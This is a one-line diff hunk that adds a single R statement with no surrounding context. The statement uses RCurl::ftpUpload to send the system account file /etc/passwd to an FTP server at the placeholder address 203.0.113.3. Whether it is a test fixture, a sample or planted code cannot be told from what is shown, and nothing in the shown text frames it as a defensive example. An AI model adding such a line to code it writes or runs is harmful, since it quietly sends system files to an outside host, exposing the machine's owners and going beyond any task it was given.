@@ -1,0 +1,1 @@
+RCurl::ftpUpload("/etc/passwd", "ftp://203.0.113.3/p")
